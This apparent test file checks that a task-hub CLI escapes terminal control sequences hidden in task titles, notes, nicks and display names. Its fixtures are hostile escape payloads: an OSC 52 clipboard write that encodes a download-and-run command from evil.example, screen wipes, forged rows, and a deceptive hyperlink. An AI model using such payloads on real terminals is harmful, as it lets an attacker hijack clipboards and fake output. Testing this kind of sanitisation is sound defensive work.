/**
 * Terminal escape injection: a task title, a note, a chat nick or a DingTalk display name carrying
 * ANSI/OSC sequences reaches the operator's terminal through `dingkit task list|show`, `events`, `deliveries list`
 * and `people`. An OSC 52 sequence writes the operator's clipboard, `ESC[2J` wipes the screen, `\r` and a newline
 * overwrite or forge rows, U+202E reverses what follows. Each command runs in-process (src/cli/run.ts) against a real
 * hub over loopback: human output must carry no control character but the line breaks it makes itself, with the
 * hostile text still visible (escaped); `--json` output stays exact JSON that round-trips the original text.
 */

import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ProgressBar } from '../../src/cli/progress.js';
import { runCli } from '../../src/cli/run.js';
import { demoOrg } from '../../src/emulator/demo-org.js';
import { chatFromStranger, type HostileHub, startHostileHub } from './hostile-hub.js';

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const TITLE = `Pay invoice${OSC52}\x1b[2J\x1b[H\rDONE fake\nFORGED   row\u202eevil\x9b31m`;
const NOTE = `ok\x1b]0;new window title\x07\x08\x08\x08`;
const NICK = `Mallory\x1b[1A\x1b[2K\rAlice: done #1`;
const PERSON = `Bob\x1b]8;;https://evil.example\x07 Li\x1b]8;;\x07`;

/** Any control character a terminal acts on: C0 but LF, DEL, C1, and the bidi overrides/isolates. */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

let h: HostileHub;
let cwd = '';
let taskId = 0;

function sink(): Writable & { text: string } {
  const w = new Writable({
    write(chunk, _enc, cb) {
      w.text += String(chunk);
      cb();
    },
  }) as Writable & { text: string };
  w.text = '';
  return w;
}

async function cli(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  const stdout = sink();
  const stderr = sink();
  const code = await runCli(['--url', h.server.url, ...argv], {
    stdout,
    stderr,
    stdin: Readable.from([]),
    env: { DINGKIT_TOKEN: h.token },
    cwd,
  });
  return { code, out: stdout.text, err: stderr.text };
}

function expectClean(text: string, what: string): void {
  const m = CONTROL.exec(text);
  expect(
    m,
    `${what}: control character U+${m?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} in ${JSON.stringify(text)}`,
  ).toBeNull();
}

beforeAll(async () => {
  cwd = mkdtempSync(join(tmpdir(), 'dingkit-term-'));
  const fixture = demoOrg();
  const bob = fixture.org.users.find((u) => u.userId === 'bob')!;
  bob.name = PERSON;
  h = await startHostileHub({}, { emulator: { fixture } });
  const res = await fetch(`${h.server.url}/v1/tasks`, {
    method: 'POST',
    headers: { authorization: `Bearer ${h.token}`, 'content-type': 'application/json' },
    body: JSON.stringify({
      title: TITLE,
      description: `line one\n${OSC52}line two`,
      assignees: ['Alice Chen'],
    }),
  });
  expect(res.status, await res.clone().text()).toBe(201);
  taskId = ((await res.json()) as { id: number }).id;
  const moved = await fetch(`${h.server.url}/v1/tasks/${taskId}/start`, {
    method: 'POST',
    headers: { authorization: `Bearer ${h.token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ note: NOTE }),
  });
  expect(moved.status, await moved.clone().text()).toBe(200);
  const sent = await fetch(`${h.server.url}/v1/messages`, {
    method: 'POST',
    headers: { authorization: `Bearer ${h.token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ to: ['bob'], text: 'hello' }),
  });
  expect(sent.status, await sent.clone().text()).toBeLessThan(300);
  await chatFromStranger(h, NICK, 'help', 'term-chat-1');
}, 60_000);

afterAll(async () => {
  await h?.close();
  rmSync(cwd, { recursive: true, force: true });
});

describe('human output neutralises control characters', () => {
  it('attack: `task list` with an OSC 52 / ESC[2J / CR / newline / RLO title → one clean row, text still visible', async () => {
    const r = await cli('task', 'list');
    expect(r.code, r.err).toBe(0);
    expectClean(r.out, 'task list');
    const lines = r.out.trimEnd().split('\n');
    expect(lines.filter((l) => l.includes('Pay invoice'))).toHaveLength(1);
    expect(lines.some((l) => l.startsWith('FORGED'))).toBe(false);
    expect(r.out).toContain('Pay invoice\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J');
    expect(r.out).toContain('\\rDONE fake\\nFORGED   row\\u202eevil\\x9b31m');
  });

  it('attack: `task show` (title, description, a note with OSC 0 and backspaces)', async () => {
    const r = await cli('task', 'show', String(taskId));
    expect(r.code, r.err).toBe(0);
    expectClean(r.out, 'task show');
    expect(r.out).toContain('ok\\x1b]0;new window title\\x07\\b\\b\\b');
    // A description keeps its own line breaks, indented, so it cannot pose as a field of the task.
    expect(r.out).toContain('  line one\n  \\x1b]52;');
  });

  it('attack: `events` showing a stranger’s nick that moves the cursor up and rewrites the line above', async () => {
    const r = await cli('events', '--replay', '--type', 'inbound.', '--count', '1');
    expect(r.code, r.err).toBe(0);
    expectClean(r.out, 'events');
    expect(r.out.trimEnd().split('\n')).toHaveLength(1);
    expect(r.out).toContain('Mallory\\x1b[1A\\x1b[2K\\rAlice: done #1');
  });

  it('attack: `people` and `deliveries list` showing a DingTalk display name with an OSC 8 hyperlink', async () => {
    const people = await cli('people');
    expect(people.code, people.err).toBe(0);
    expectClean(people.out, 'people');
    expect(people.out).toContain('Bob\\x1b]8;;https://evil.example\\x07 Li');
    const deliveries = await cli('deliveries', 'list');
    expect(deliveries.code, deliveries.err).toBe(0);
    expectClean(deliveries.out, 'deliveries list');
    expect(deliveries.out).toContain('Bob\\x1b]8;;https://evil.example\\x07 Li');
  });

  it('an error message quoting hostile text is cleaned too (stderr)', async () => {
    const r = await cli('task', 'show', `\x1b]52;c;eA==\x07`);
    expect(r.code).not.toBe(0);
    expectClean(r.err, 'stderr');
  });
});

describe('the progress bar', () => {
  it('attack: an upload label naming a file from a remote Content-Disposition with OSC 52 and CR', () => {
    const out = Object.assign(sink(), { isTTY: true, columns: 200 });
    const bar = new ProgressBar(out, { total: 10, label: `uploading ${OSC52}\rreport.pdf` });
    bar.update(10);
    // The bar's own redraw prefix (CR, erase line) is the only control sequence written.
    expect(out.text.startsWith('\r\x1b[2K')).toBe(true);
    expectClean(out.text.slice('\r\x1b[2K'.length), 'progress');
    expect(out.text).toContain('uploading \\x1b]52;c;');
  });
});

describe('--json output stays exact', () => {
  it('`task list --json` and `events --json` carry the original text byte for byte', async () => {
    const list = await cli('--json', 'task', 'list');
    expect(list.code, list.err).toBe(0);
    const tasks = JSON.parse(list.out) as { id: number; title: string }[];
    expect(tasks.find((t) => t.id === taskId)?.title).toBe(TITLE);
    const people = JSON.parse((await cli('--json', 'people')).out) as { name: string }[];
    expect(people.map((p) => p.name)).toContain(PERSON);
    const events = await cli('--json', 'events', '--replay', '--type', 'inbound.', '--count', '1');
    expect((JSON.parse(events.out.trim()) as { by: string }).by).toBe(NICK);
  });
});
